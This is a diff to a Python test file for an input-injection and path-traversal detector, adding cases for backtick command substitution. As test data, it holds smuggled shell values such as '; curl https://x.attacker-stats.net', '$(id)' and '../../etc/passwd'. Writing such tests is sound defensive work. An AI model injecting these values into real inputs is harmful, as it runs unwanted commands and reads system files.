@@ -85,6 +85,9 @@ def test_shell_syntax_and_paths_upwards_in_values():
     assert injected("Aurora; curl https://x.attacker-stats.net")
     assert injected("$(id)")
     assert not injected("fish & chips; two portions | cash")
+    assert injected("what does `kubectl get pods` show")
+    assert not injected("what does `kubectl get pods` show", backticks=False)
+    assert injected("`id`; curl https://x.attacker-stats.net", backticks=False)
     assert leaves_its_place("../../etc/passwd")
     assert not leaves_its_place("reports/../reports/2026.md")
 
